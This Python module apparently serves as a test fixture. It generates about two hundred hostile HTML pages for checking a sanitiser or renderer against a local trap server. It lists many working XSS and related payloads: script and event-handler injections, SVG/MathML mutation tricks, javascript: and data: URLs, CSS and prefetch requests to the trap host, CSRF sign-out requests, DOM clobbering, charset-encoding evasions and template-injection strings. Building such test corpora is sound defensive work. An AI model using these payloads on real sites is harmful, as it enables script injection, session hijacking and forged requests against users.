"""Some two hundred pages that want to do harm, of our own making: each tries one thing in one place.

`RUN` of a payload, where it ever runs, leaves traces everywhere; `TRAP` is a server that nobody should ask. Nothing of
them is copied from a site; the kinds are those that sanitisers have failed at.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace
from html import escape
from json import dumps

HTML = "text/html"
# No quotes, spaces or angle brackets, so that it stands in every kind of attribute.
RUN = "(top.RAN=self.RAN=1,console.log(`RAN`),localStorage.setItem(`RAN`,1),document.title=`RAN`,fetch(`TRAP/run`))"
MARK = "pNUMBER"  # stands for the page's number while it is made
WORDS = "Heron Loft meets every Tuesday at 2pm. People who live alone mend kites together. It costs nothing."


@dataclass(frozen=True, slots=True, kw_only=True)
class HostilePage:
    """`words` stand on the page as text, whatever else happens, and are quoted as evidence and as the name."""

    kind: str
    body: bytes
    content_type: str = HTML
    words: str = WORDS


SCRIPTS = (
    "<script>RUN</script>",
    "<script src=TRAP/s.js></script>",
    '<script type=module>import "TRAP/m.js";RUN</script>',
    "<script async defer src=//TRAPHOST/s.js></script>",
    "<SCRIPT/x>RUN</SCRIPT/y>",
    "<script\x0c>RUN</script\n>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script>RUN",
    "<!--><script>RUN</script>-->",
    "<!--!><script>RUN</script>",
    "<!-- --!><script>RUN</script>-->",
    "<![CDATA[<script>RUN</script>]]>",
    "<![CDATA[><script>RUN</script>",
    "<?xml version='1.0'?><script>RUN</script>",
    "<?php ?><script>RUN</script>",
    "<script type=speculationrules>{'prefetch':[{'source':'list','urls':['TRAP/spec']}]}</script>",
    "<script type=importmap>{'imports':{'x':'TRAP/map.js'}}</script>",
    "<noscript><script>RUN</script></noscript>",
    "<template><script>RUN</script></template>",
    "<template shadowrootmode=open><script>RUN</script><img src=TRAP/shadow></template>",
)
EVENTS = (
    "<img src=x: onerror=RUN>",
    "<img/src=x:/onerror=RUN>",
    "<img src=TRAP/i onload=RUN onerror=RUN>",
    "<image src=x: onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<select autofocus onfocus=RUN><option>x</select>",
    "<button autofocus onfocus=RUN>x</button>",
    "<a href=# autofocus onfocus=RUN>x</a>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<p tabindex=1 autofocus onfocus=RUN onfocusin=RUN>x</p>",
    "<div onpointerover=RUN onmouseover=RUN onmouseenter=RUN style='position:fixed;inset:0'>x</div>",
    "<div contenteditable autofocus onfocus=RUN>x</div>",
    "<marquee onstart=RUN onbounce=RUN loop=1>x</marquee>",
    "<video autoplay src=TRAP/v onloadstart=RUN onerror=RUN></video>",
    "<audio autoplay src=TRAP/a onloadstart=RUN onerror=RUN></audio>",
    "<video><source src=TRAP/source onerror=RUN></video>",
    "<video poster=TRAP/poster></video>",
    "<style onload=RUN></style>",
    "<link rel=stylesheet href=TRAP/c.css onload=RUN onerror=RUN>",
    "<object data=TRAP/o onerror=RUN onload=RUN></object>",
    "<embed src=TRAP/e onload=RUN>",
    "<iframe onload=RUN></iframe>",
    "<body onload=RUN onpageshow=RUN onscroll=RUN onhashchange=RUN>",
    "<frameset onload=RUN><frame src=TRAP/frame></frameset>",
    "<div style='animation:a 1s' onanimationstart=RUN></div><style>@keyframes a{}</style>",
    "<div style='transition:1s' ontransitionend=RUN>x</div>",
    "<dialog open oncancel=RUN onbeforetoggle=RUN>x</dialog>",
    "<p popover id=pp onbeforetoggle=RUN ontoggle=RUN>x</p><button popovertarget=pp autofocus>x</button>",
    "<div oncontentvisibilityautostatechange=RUN style=content-visibility:auto>x</div>",
)
FOREIGN = (
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=TRAP/svg.js></script></svg>",
    "<svg><image href=TRAP/svgimage /></svg>",
    "<svg><use href=TRAP/use.svg#x /></svg>",
    "<svg><a href=javascript:RUN><text y=20>Heron</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:RUN /></svg>",
    "<svg><a><animate attributeName=href to=javascript:RUN begin=0s /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=RUN /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>",
    "<svg><style>*{background:url(TRAP/svgstyle)}</style></svg>",
    "<svg><filter id=f><feImage href=TRAP/fe /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><style><!--</style><img title='--></style><img src=x: onerror=RUN>'></svg>",
    "<svg></p><style><a id='</style><img src=x: onerror=RUN>'>",
    "<svg><title><template><img src=x: onerror=RUN></template></title></svg>",
    "<svg><desc><img src=x: onerror=RUN></desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=RUN&gt;'></table></math>",
    "<math><mtext><script>RUN</script></mtext></math>",
    "<math href=javascript:RUN>Heron</math>",
    "<math><annotation-xml encoding=text/html><img src=x: onerror=RUN></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN></style></mglyph></form>",
    "<math><mi><svg><style></mi></math><img src=x: onerror=RUN></style></svg>",
    "<svg xmlns=http://www.w3.org/2000/svg xmlns:xlink=http://www.w3.org/1999/xlink><image xlink:href=TRAP/xl /></svg>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>RUN</handler></svg>",
)
MUTATING = (
    "<noscript><p title='</noscript><img src=x: onerror=RUN>'></noscript>",
    "<noembed><p title='</noembed><img src=x: onerror=RUN>'></noembed>",
    "<noframes><p title='</noframes><img src=x: onerror=RUN>'></noframes>",
    "<xmp><p title='</xmp><img src=x: onerror=RUN>'></xmp>",
    "<listing>&lt;img src=x: onerror=RUN&gt;</listing>",
    "<plaintext><img src=x: onerror=RUN>",
    "<textarea><p title='</textarea><img src=x: onerror=RUN>'></textarea>",
    "<title><p title='</title><img src=x: onerror=RUN>'></title>",
    "<style><p title='</style><img src=x: onerror=RUN>'></style>",
    "<iframe><p title='</iframe><img src=x: onerror=RUN>'></iframe>",
    "<template><p title='</template><img src=x: onerror=RUN>'></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x: onerror=RUN>'>",
    "<table><td><form><table></form><img src=x: onerror=RUN>",
    "<table><caption><svg><table><script>RUN</script>",
    "<a><p></a><img src=x: onerror=RUN></p>",
    "<p title='`'><p title='onerror=RUN'><img src=`x:`onerror=RUN>",
    "<div id='x&quot;><img src=x: onerror=RUN>'>x</div>",
    "&lt;img src=x: onerror=RUN&gt;",
    "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "&#x3C;svg/onload=RUN&#x3E;",
    "<p>" * 3000 + "<img src=x: onerror=RUN>",
    "<b>" * 600 + "<table>" * 40 + "<script>RUN</script>",
    "<font color='\"><img src=x: onerror=RUN>'>x</font>",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>RUN</x:script>",
)
ADDRESSES = (
    "<a href=javascript:RUN>Heron Loft</a>",
    "<a href='java\tscript:RUN'>Heron Loft</a>",
    "<a href='\x01javascript:RUN'>Heron Loft</a>",
    "<a href='&#106;avascript&colon;RUN'>Heron Loft</a>",
    "<a href='JaVaScRiPt:RUN'>Heron Loft</a>",
    "<a href='javascript&NewLine;:RUN'>Heron Loft</a>",
    "<a href='data:text/html,<script>RUN</script>'>Heron Loft</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>Heron Loft</a>",
    "<a href='vbscript:msgbox'>Heron Loft</a>",
    "<a href='blob:TRAP/x'>Heron Loft</a>",
    "<a href='filesystem:TRAP/x'>Heron Loft</a>",
    "<a href='//TRAPHOST/x' target=_top>Heron Loft</a>",
    "<a href='TRAP/ping' ping='TRAP/pinged'>Heron Loft</a>",
    "<area href=javascript:RUN><map name=m><area shape=default href=TRAP/area></map>",
    "<base href='TRAP/base/'><a href=x>Heron Loft</a><img src=x>",
    "<base href='javascript:/a/-RUN///'><a href=x>Heron Loft</a>",
    "<base target=_top><a href=TRAP/top>Heron Loft</a>",
    "<iframe src=javascript:RUN></iframe>",
    "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    '<iframe srcdoc="<script>RUN</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x: onerror=RUN&gt;&lt;img src=TRAP/srcdoc&gt;"></iframe>',
    "<iframe src=TRAP/frame></iframe>",
    "<iframe src=/sign-out></iframe><iframe src=/></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<object type=text/x-scriptlet data=TRAP/scriptlet></object>",
    "<applet code=TRAP/applet archive=TRAP/applet.jar></applet>",
    "<portal src=TRAP/portal></portal><fencedframe src=TRAP/fenced></fencedframe>",
    "<img src=/sign-out><img src=/candidate/shed/record><link rel=prefetch href=/sign-out>",
)
REQUESTS = (
    "<meta http-equiv=refresh content='0;url=TRAP/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
    "<meta http-equiv=refresh content='0;url=/sign-in'>",
    "<meta http-equiv=content-security-policy content='report-uri TRAP/csp; default-src *'>",
    "<meta http-equiv=set-cookie content='tidiermap_session=stolen; path=/'>",
    "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//TRAPHOST>",
    "<meta name=referrer content=unsafe-url><img src=TRAP/referrer>",
    "<meta http-equiv=Accept-CH content='Sec-CH-UA-Full-Version-List'><img src=TRAP/ch>",
    "<link rel=stylesheet href=TRAP/c.css>",
    "<link rel=icon href=TRAP/favicon.ico>",
    "<link rel=manifest href=TRAP/manifest.json>",
    "<link rel=prefetch href=TRAP/prefetch><link rel=prerender href=TRAP/prerender>",
    "<link rel=preload as=script href=TRAP/preload.js><link rel=modulepreload href=TRAP/module.js>",
    "<link rel=preconnect href=TRAP/><link rel=preload as=image imagesrcset='TRAP/set 1x'>",
    "<link rel=import href=TRAP/import.html><link rel=alternate href=TRAP/feed>",
    "<img src=TRAP/img><img srcset='TRAP/set 1x'><img lowsrc=TRAP/low dynsrc=TRAP/dyn longdesc=TRAP/long>",
    "<picture><source srcset=TRAP/picture><img src=TRAP/img></picture>",
    "<input type=image src=TRAP/input><video src=TRAP/video autoplay><track default src=TRAP/track></video>",
    "<body background=TRAP/background><table background=TRAP/table><td background=TRAP/cell>x</table>",
    "<style>@import 'TRAP/import.css';body{background:url(TRAP/bg)}</style>",
    "<style>@font-face{font-family:f;src:url(TRAP/font)}*{font-family:f}</style>",
    "<style>body{background:url(TRAP/bg);cursor:url(TRAP/cursor),auto;list-style:url(TRAP/list)}</style>",
    "<p style='background:url(TRAP/inline)'>Heron Loft</p>",
    "<p style=\"background:image-set('TRAP/set' 1x);border-image:url(TRAP/border)\">Heron Loft</p>",
    "<p style='width:expression(RUN);behavior:url(TRAP/htc);-moz-binding:url(TRAP/xbl)'>Heron Loft</p>",
    "<style>mark[data-field]{background:url(TRAP/mark)}*{content:url(TRAP/content)}</style>",
    "<style>p::before{content:url('\\74 rap')}@namespace url(TRAP/ns);</style><p>x</p>",
    "<style>@layer a{@import url(TRAP/layer)}:has(p){background:url(TRAP/has)}</style>",
    "<form id=f action=TRAP/form method=post><input name=a value=b><button autofocus>Heron</button></form>",
)
FORMS = (
    "<form action=/sign-out method=post><input type=submit value=Heron autofocus></form>",
    "<form action=javascript:RUN><button autofocus>Heron</button></form>",
    "<form id=g></form><button form=g formaction=javascript:RUN autofocus>Heron</button>",
    "<form action=TRAP/get><input name=password type=password autofocus></form>",
    "<form method=dialog action=TRAP/dialog><button>x</button></form>",
    "<form><input name=attributes><input name=nodeType><input name=parentNode><img name=body></form>",
    "<a id=location href=TRAP/clobber>x</a><a id=document name=cookie>x</a>",
    "<form id=panel><input name=dataset><input id=keys></form><p id=csrf>x</p>",
    "<img name=currentScript><img name=getElementById><embed name=querySelector>",
    "<iframe name=page src=TRAP/name></iframe><a name=page id=page>x</a>",
    "<mark data-field=tidier.why data-mark=0 id=tidier-why-0>Not a quote</mark>",
    "<mark data-field='\"><img src=x: onerror=RUN>' data-mark='9\"><script>RUN</script>'>Heron</mark>",
    "<span class=place id=tidier-brief_name-0 style='position:fixed;inset:0;background:url(TRAP/cover)'>x</span>",
    "<div class='record-bar' style='position:fixed;inset:0;z-index:99'><button>Accept all</button></div>",
    "<p lang='\"><img src=x: onerror=RUN>' dir='\" onclick=RUN'>Heron</p>",
)
BYTES = (
    b"+ADw-script+AD4-RUN+ADw-/script+AD4-",
    b"\xff\xfe" + "<script>RUN</script>".encode("utf-16-le"),
    b"\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>RUN</script>",
    b"<scr\x00ipt>RUN</scr\x00ipt>",
    b"<img src=x: on\x00error=RUN>",
    b"<meta charset=utf-7>+ADw-img src+AD0-x: onerror+AD0-RUN+AD4-",
    b"<meta charset=iso-2022-jp>\x1b$B<script>RUN</script>\x1b(B",
    b'<meta charset=shift_jis><p title="\x81">"><img src=x: onerror=RUN></p>',
    b'<meta charset=gbk><p title="\xbf"><img src=x: onerror=RUN>"></p>',
    b"<meta charset=x-user-defined>\xbcscript\xbeRUN\xbc/script\xbe",
    b"\xc0\xbcscript\xc0\xbeRUN\xc0\xbc/script\xc0\xbe",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e".encode(),
    "<\u017fcript>RUN</\u017fcript>".encode(),
    "<p>\u202e<script>RUN</script>\u202c \u2066Loft\u2069</p>".encode(),
    "<p>\ufeff<img src=x:\u2028onerror=RUN></p>".encode(),
    b"<p a=" + b"x" * 200_000 + b" onclick=RUN>Heron</p>",
    b"<p " + b" ".join(b"a%d=1" % n for n in range(20_000)) + b" autofocus tabindex=1 onfocus=RUN>Heron</p>",
    b"<" + b"a" * 100_000 + b" onfocus=RUN autofocus tabindex=1>",
    b"<!doctype html [<!ENTITY x SYSTEM 'TRAP/entity'><!ENTITY y '<script>RUN</script>'>]><p>&x;&y;</p>",
    b"<?xml-stylesheet href='TRAP/xslt' type='text/xsl'?><html xmlns='http://www.w3.org/1999/xhtml'><script>RUN</script>",
)
# Text that is no markup on the page, and would be in a page of ours that forgot to escape it.
NAMES = (
    "<script>RUN</script>",
    '"><img src=x: onerror=RUN>',
    "'><svg onload=RUN>",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</style><script>RUN</script>",
    "</script><script>RUN</script>",
    "</iframe><img src=x: onerror=RUN>",
    "<!--<script>RUN</script>",
    "{{ 7*7 }}{% raw %}<script>RUN</script>",
    "${RUN}`;RUN//",
    "javascript:RUN",
    '" autofocus onfocus=RUN x="',
    "' autofocus onfocus=RUN x='",
    '\\"><script>RUN</script>',
    "\u202eLoft\u2066<script>RUN</script>",
    '=HYPERLINK("TRAP/cell","x")<img src=TRAP/cell>',
    "<base href=TRAP/><meta http-equiv=refresh content=0;url=TRAP/n>",
    "<link rel=stylesheet href=TRAP/n.css><style>@import 'TRAP/n'</style>",
    "&lt;script&gt;RUN&lt;/script&gt;&#60;img src=x: onerror=RUN&#62;",
)


def hostile_pages(trap: str) -> Iterator[HostilePage]:
    """All of them, with the trap server's address (`http://127.0.0.1:port`) in; the Nth asks it for /pN/..."""
    for number, page in enumerate(_pages(f"{trap}/{MARK}")):
        yield replace(
            page,
            body=page.body.replace(MARK.encode(), f"p{number}".encode()),
            words=page.words.replace(MARK, f"p{number}"),
        )


def _pages(trap: str) -> Iterator[HostilePage]:
    groups = {
        "script": SCRIPTS,
        "event": EVENTS,
        "foreign": FOREIGN,
        "mutation": MUTATING,
        "address": ADDRESSES,
        "request": REQUESTS,
        "form": FORMS,
    }
    for name, attacks in groups.items():
        for number, attack in enumerate(attacks):
            body = _filled(_page(attack, place=number), trap)
            yield HostilePage(kind=f"{name} {number}", body=body.encode("utf-8", "surrogatepass"))
    for number, raw in enumerate(BYTES):
        body = f"<title>Heron Loft</title><p>{WORDS}</p>".encode() + _filled(raw.decode("latin-1"), trap).encode(
            "latin-1"
        )
        yield HostilePage(kind=f"bytes {number}", body=body, content_type="text/html" if number % 2 else "")
    for number, name in enumerate(NAMES):
        words = f"{_filled(name, trap)} Heron Loft."
        yield HostilePage(kind=f"name {number}", body=_told(words).encode(), words=" ".join(words.split()))


def _filled(text: str, trap: str) -> str:
    host = trap.partition("//")[2]
    return text.replace("RUN", RUN).replace("TRAPHOST", host).replace("TRAP", trap)


def _page(attack: str, *, place: int) -> str:
    """The attack in another place of the page each time: head, heading, cell, list, quote or the very end."""
    places = (
        "<head>{}</head><body><h1>Heron Loft</h1><p>{}</p>",
        "<body><p>{1}</p>{0}",
        "<body><h1>Heron {0} Loft</h1><p>{1}</p>",
        "<body><table><tr><td>{0}</td><td>{1}</td></tr></table>",
        "<body><ul><li>{0}</li></ul><p>{1}</p>",
        "<body><article><p>{1}</p><div>{0}</div></article></body></html>{0}",
    )
    return "<!doctype html><html><title>Heron Loft</title>" + places[place % len(places)].format(attack, WORDS)


def _told(words: str) -> str:
    """A page that says these words in its title, heading and linked data, properly escaped."""
    said = escape(words)
    data = dumps({"@type": "Event", "name": words, "description": words}).replace("</", "<\\/")
    return (
        f'<!doctype html><title>{said}</title><meta name="description" content="{said}">'
        f'<script type="application/ld+json">{data}</script><h1>{said}</h1><p>{said} {WORDS}</p>'
    )
